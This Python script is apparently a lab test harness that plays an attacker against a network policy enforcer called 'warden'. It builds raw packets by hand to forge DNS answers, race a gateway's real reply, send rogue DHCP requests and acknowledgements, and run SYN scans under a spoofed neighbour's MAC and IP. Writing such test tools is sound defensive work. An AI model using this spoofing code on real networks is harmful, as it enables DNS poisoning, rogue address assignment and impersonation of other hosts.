"""What an attacker on the lab's LAN (or beyond the gateway) sends to make
warden believe something false: forged DNS answers, forged DHCP client and
server messages, and TCP SYNs under a neighbour's MAC. Frames are built by
hand (struct) and sent on a raw socket; nothing leaves the lab's namespaces.

  forge.py IFACE dns SRC_MAC DST_MAC SRC_IP SPORT DST_IP DPORT NAME ADDR TTL [CNAME_FROM]
      one DNS response (QR=1, no question asked) saying NAME has ADDR; with
      CNAME_FROM, the question is CNAME_FROM and the answer CNAME_FROM ->
      NAME, NAME -> ADDR. SRC_MAC "own" = the interface's MAC.
  forge.py IFACE dns-ip SRC_IP SPORT DST_IP DPORT NAME ADDR TTL
      the same as a routed IPv4 packet (a raw IP socket), from beyond the gateway.
  forge.py IFACE ask-and-forge GW_MAC GW_IP NAME ADDR TTL
      asks GW_IP a real question for NAME (a UDP socket), then at once forges
      its answer (the same id and port) under the gateway's MAC: a device
      widening its own policy with an answer it can match.
  forge.py IFACE dhcp-request SRC_MAC CHADDR MUD_URL
      a DHCPREQUEST for CHADDR with option 161, from SRC_MAC ("own" allowed).
  forge.py IFACE dhcp-ack SRC_MAC CHADDR YIADDR SERVER_IP
      a DHCPACK giving YIADDR to CHADDR, in the name of SERVER_IP.
  forge.py IFACE syn-scan SRC_MAC DST_MAC SRC_IP PREFIX FIRST LAST PORT
      one TCP SYN to each PREFIX.FIRST..LAST on PORT, under SRC_MAC/SRC_IP.
"""
import random, socket, struct, sys, time


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def mac(s, own):
    return own if s == "own" else bytes(int(x, 16) for x in s.split(":"))


def ipv4(src, dst, proto, payload, ident=None):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident or random.randrange(65536), 0,
                    64, proto, 0, socket.inet_aton(src), socket.inet_aton(dst))
    return h[:10] + struct.pack("!H", csum(h)) + h[12:] + payload


def udp(src, dst, sport, dport, payload):
    u = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, len(u))
    c = csum(pseudo + u) or 0xFFFF
    return ipv4(src, dst, 17, u[:6] + struct.pack("!H", c) + u[8:])


def tcp_syn(src, dst, sport, dport):
    t = struct.pack("!HHIIBBHHH", sport, dport, random.randrange(1 << 32), 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(t))
    c = csum(pseudo + t)
    return ipv4(src, dst, 6, t[:16] + struct.pack("!H", c) + t[18:])


def name(n):
    return b"".join(bytes([len(p)]) + p.encode() for p in n.strip(".").split(".")) + b"\0"


def dns_answer(qname, target, addr, ttl, cname_from=None, ident=None):
    ident = random.randrange(65536) if ident is None else ident
    ask = cname_from or qname
    msg = struct.pack("!HHHHHH", ident, 0x8180, 1, 2 if cname_from else 1, 0, 0)
    msg += name(ask) + struct.pack("!HH", 1, 1)
    if cname_from:
        t = name(target)
        msg += name(cname_from) + struct.pack("!HHIH", 5, 1, ttl, len(t)) + t
    msg += name(target) + struct.pack("!HHIH", 1, 1, ttl, 4) + socket.inet_aton(addr)
    return msg


def bootp(op, chaddr, yiaddr, options):
    b = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", op, 1, 6, 0, random.randrange(1 << 32), 0, 0x8000,
                    b"\0" * 4, socket.inet_aton(yiaddr), b"\0" * 4, b"\0" * 4, chaddr + b"\0" * 10, b"", b"")
    return b + b"\x63\x82\x53\x63" + options + b"\xff"


ifc, what = sys.argv[1], sys.argv[2]
a = sys.argv[3:]
if what == "dns-ip":
    src, sport, dst, dport, qname, addr, ttl = a[0], int(a[1]), a[2], int(a[3]), a[4], a[5], int(a[6])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, ifc.encode())
    s.sendto(udp(src, dst, sport, dport, dns_answer(qname, qname, addr, ttl)), (dst, 0))
    print("sent")
    sys.exit(0)

s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((ifc, 0))
own = s.getsockname()[4]
bcast = b"\xff" * 6
if what == "dns":
    src_mac, dst_mac = mac(a[0], own), mac(a[1], own)
    src, sport, dst, dport = a[2], int(a[3]), a[4], int(a[5])
    qname, addr, ttl = a[6], a[7], int(a[8])
    cname_from = a[9] if len(a) > 9 else None
    frame = dst_mac + src_mac + b"\x08\x00" + udp(src, dst, sport, dport,
                                                   dns_answer(qname, qname, addr, ttl, cname_from))
    s.send(frame)
elif what == "ask-and-forge":
    gw_mac, gw_ip, qname, addr, ttl = mac(a[0], own), a[1], a[2], a[3], int(a[4])
    q = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    q.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, ifc.encode())
    q.bind(("0.0.0.0", 0))
    # One real exchange first, so that the gateway's neighbour entry is
    # warm and the racing question leaves at once.
    q.settimeout(2)
    q.sendto(struct.pack("!HHHHHH", 1, 0x0100, 1, 0, 0, 0) + name(qname) + struct.pack("!HH", 1, 1),
             (gw_ip, 53))
    try:
        q.recv(512)
    except OSError:
        pass
    ident = random.randrange(2, 65536)
    q.sendto(struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 0) + name(qname) + struct.pack("!HH", 1, 1),
             (gw_ip, 53))
    me, port = q.getsockname()
    if me == "0.0.0.0":
        import fcntl
        me = socket.inet_ntoa(fcntl.ioctl(q.fileno(), 0x8915, struct.pack("256s", ifc.encode()[:15]))[20:24])
    s.send(own + gw_mac + b"\x08\x00" + udp(gw_ip, me, 53, port,
                                             dns_answer(qname, qname, addr, ttl, ident=ident)))
elif what == "dhcp-request":
    src_mac, chaddr, url = mac(a[0], own), mac(a[1], own), a[2].encode()
    opts = b"\x35\x01\x03" + bytes([161, len(url)]) + url
    frame = bcast + src_mac + b"\x08\x00" + udp("0.0.0.0", "255.255.255.255", 68, 67,
                                                bootp(1, chaddr, "0.0.0.0", opts))
    s.send(frame)
elif what == "dhcp-ack":
    src_mac, chaddr, yiaddr, server = mac(a[0], own), mac(a[1], own), a[2], a[3]
    opts = b"\x35\x01\x05" + b"\x36\x04" + socket.inet_aton(server) + b"\x33\x04\x00\x00\x0e\x10"
    frame = bcast + src_mac + b"\x08\x00" + udp(server, "255.255.255.255", 67, 68,
                                                bootp(2, chaddr, yiaddr, opts))
    s.send(frame)
elif what == "syn-scan":
    src_mac, dst_mac, src = mac(a[0], own), mac(a[1], own), a[2]
    prefix, first, last, port = a[3], int(a[4]), int(a[5]), int(a[6])
    for i in range(first, last + 1):
        s.send(dst_mac + src_mac + b"\x08\x00" + tcp_syn(src, "%s.%d" % (prefix, i),
                                                          random.randrange(1024, 65535), port))
        time.sleep(0.005)
else:
    sys.exit("unknown: " + what)
print("sent")
